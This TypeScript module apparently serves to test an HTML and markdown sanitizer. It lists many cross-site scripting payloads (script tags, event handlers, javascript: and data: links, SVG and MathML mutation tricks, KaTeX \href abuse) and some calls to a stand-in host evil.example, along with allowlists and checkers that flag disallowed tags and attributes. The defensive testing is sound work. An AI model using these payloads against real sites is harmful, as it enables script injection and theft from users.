/** What runs a script where HTML is let through. */
export const hostileMarkup = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>', '<img src=x onerror="alert(1)"//', '<IMG """><SCRIPT>alert(1)</SCRIPT>">', '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>', '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>', '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><maction actiontype="statusline#http://evil" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">', '<applet code=x>', '<base href="javascript:/a/">', '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<style>@import "javascript:alert(1)";</style>', '<style>*{background:url(//evil.example)}</style>',
  '<body onload=alert(1)>', '<html onmouseover=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
  '<video poster=javascript:alert(1)//>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>', '<a onclick=alert(1)>x</a>',
  '<div style="background:url(javascript:alert(1))">', '<div style="width:expression(alert(1))">', '<p onmouseenter=alert(1)>x</p>', '<table background="javascript:alert(1)">',
  '<button formaction=javascript:alert(1)>x</button>', '<form action=javascript:alert(1)><input type=submit>', '<isindex action=javascript:alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<!DOCTYPE html><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>', '<plaintext><script>alert(1)</script>', '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>', '<portal src=javascript:alert(1)>',
  '<dialog open onclose=alert(1)>', '<x contenteditable onblur=alert(1)>x', '<input type=image src=x onerror=alert(1)>', '<a id=location href=//evil.example>x</a>',
  '<img name=body src=x>', '<form id=getElementById>', '<form name=cookie>', '<a ping=//evil.example href=/>x</a>', '<object type=text/html data=//evil.example>',
  '<frameset onload=alert(1)>', '<layer src=//evil.example>', '<bgsound src=javascript:alert(1)>', '<br size="&{alert(1)}">', '<ul><li style=list-style-image:url(javascript:alert(1))>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<svg/onload=alert(1)//', '<img src=x:x onerror\x00=alert(1)>',
  '<\x00script>alert(1)</script>', '<script\x20type="text/javascript">alert(1);</script>', '<img src=`x`onerror=alert(1)>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
  '</p><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</noscript><script>alert(1)</script>', '--><script>alert(1)</script>', ']]><script>alert(1)</script>',
]; // prettier-ignore

/** Addresses that no link and no picture may have. */
const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'java%0ascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,x',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,x', 'file:///etc/passwd', 'blob:x', 'filesystem:x', 'about:blank', 'view-source:x',
  '//evil.example', '/\\evil.example', '\\\\evil.example', 'x-javascript:alert(1)', 'feed:javascript:alert(1)', 'jar:x', 'ms-its:x', 'mocha:x', 'livescript:x', 'wyciwyg:x', 'ws://x', 'ftp://x', 'tel:1', 'sms:1',
  '/api/auth/repeatmail?username=a', '/api/texts/pictures/../auth', '#content', '?x', 'x', './x', '../x',
]; // prettier-ignore

const links = addresses.flatMap((address) => [`[x](${address})`, `![x](${address})`]);

/** Ways out of what is drawn by others. */
const drawn = [
  '$\\href{javascript:alert(1)}{x}$', '$\\url{javascript:alert(1)}$', '$\\htmlClass{x}{y}$', '$\\htmlId{x}{y}$', '$\\htmlStyle{color:red}{x}$', '$\\htmlData{a=b}{x}$',
  '$\\includegraphics{https://evil.example/x}$', '$\\text{<img src=x onerror=alert(1)>}$', '$\\text{</annotation><script>alert(1)</script>}$', '$<script>alert(1)</script>$',
  '$\\color{red;background:url(//evil.example)}x$', '$\\undefined<img src=x onerror=alert(1)>$', '$$\\tag{<script>}x$$', '$\\def\\a{\\a\\a}\\a$', '$\\unicode{<img>}$',
  '```html\n<script>alert(1)</script>\n```', '```"onmouseover=alert(1)\nx\n```', '```js onerror=alert(1)\nx\n```', '```math-display hljs"><script>\nx\n```', '`<script>alert(1)</script>`', '```math\n\\href{javascript:alert(1)}{x}\n```',
  '![</noscript><img src=x onerror=alert(1)>](/api/texts/pictures/019b0000-0000-7000-8000-000000000000_1x1.webp)', '```</noscript><img/src/onerror=alert(1)>\nx\n```',
  '[x]: javascript:alert(1)\n\n[x]', '[x][y]\n\n[y]: data:text/html,x', '<javascript:alert(1)>', '<https://x"onmouseover=alert(1)>', '[x](https://e.org "\\" onmouseover=alert(1)")', '![x" onerror=alert(1)](https://e.org)',
  '![x](/api/texts/pictures/019b0000-0000-7000-8000-000000000000_1x1.webp"onerror=alert(1))', '[^"><script>]\n\n[^"><script>]: x', '[^content]\n\n[^content]: x', '| <script> |\n|---|\n| <img onerror=alert(1)> |',
  'https://e.org/"onmouseover="alert(1)', 'www.e.org/<script>', 'a@b.org"><script>', '- [x] <img src=x onerror=alert(1)>', '[<img src=x onerror=alert(1)>](https://e.org)', '&lt;script&gt;alert(1)&lt;/script&gt;',
  '@alice"onmouseover=alert(1)', '@alice\'><script>alert(1)</script>', '[x](javascript:@alice)', '@../../api/auth/repeatmail?username=a', '@alice/../../auth', '<a href=javascript:@alice>x</a>',
  '&#60;script&#62;alert(1)', '\\<script>alert(1)\\</script>', '# <script>alert(1)</script>', '> <script>alert(1)</script>',
]; // prettier-ignore

/** What strangers may try in a text. */
export const hostileTexts = [...hostileMarkup, ...links, ...drawn];

const allowedTags = new Set([
  'a', 'annotation', 'blockquote', 'br', 'code', 'del', 'div', 'em', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'img', 'li', 'math', 'menclose', 'mfrac', 'mi', 'mn', 'mo', 'mover',
  'mpadded', 'mphantom', 'mroot', 'mrow', 'mspace', 'msqrt', 'mstyle', 'msub', 'msubsup', 'msup', 'mtable', 'mtd', 'mtext', 'mtr', 'munder', 'munderover', 'ol', 'p', 'pre', 'section',
  'semantics', 'span', 'strong', 'sup', 'table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul',
]); // prettier-ignore
const plainly = new Set([
  'align',
  'alt',
  'class',
  'display',
  'encoding',
  'height',
  'id',
  'loading',
  'mathcolor',
  'rel',
  'start',
  'width',
]);
const values: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|#t-[0-9a-f]{8}-|\/(?![/\\]))/i,
  src: /^\/api\/texts\/pictures\/[0-9a-f-]{36}_\d+x\d+\.webp$/,
  id: /^t-[0-9a-f]{8}-/,
};
const ofFormulas =
  /^(accent|accentunder|displaystyle|fence|form|linethickness|lspace|mathsize|mathvariant|maxsize|minsize|movablelimits|notation|rspace|scriptlevel|separator|stretchy|symmetric|voffset|depth|largeop|linebreak)$/;

export interface Parsed {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: Parsed[];
  /** Of a text. */
  value?: string;
}

/** What stands in HTML as a browser reads it that no text may have. */
export const strangeIn = (node: Parsed): string[] => {
  const own = node.tagName !== undefined && !allowedTags.has(node.tagName) ? [`<${node.tagName}>`] : [];
  const attributes = (node.attrs ?? []).filter(({ name, value }) => {
    const allowed = values[name];
    return allowed ? !allowed.test(value) : !plainly.has(name) && !ofFormulas.test(name);
  });
  const below = (node.childNodes ?? []).flatMap(strangeIn);
  return [...own, ...attributes.map(({ name, value }) => `${name}=${value}`), ...below];
};

/** What stands in a whole page that it has not by itself, whether its reader runs scripts or not. */
export const strangeInPage = (node: Parsed): string[] => {
  const { tagName = '', attrs = [], childNodes = [] } = node;
  const isOwn = ['', 'html', 'head', 'title', 'meta', 'body', 'noscript', 'article', 'div', 'h1', 'link'].includes(
    tagName,
  );
  const isData = tagName === 'script' && attrs.some(({ name, value }) => name === 'type' && value.endsWith('json'));
  const own = isOwn || isData || allowedTags.has(tagName) ? [] : [`<${tagName}>`];
  const bad = attrs.filter(
    ({ name, value }) => /^(on|style|srcdoc|http-equiv)/.test(name) || /^\s*(javascript|data):/i.test(value),
  );
  return [...own, ...bad.map(({ name, value }) => `${name}=${value}`), ...childNodes.flatMap(strangeInPage)];
};
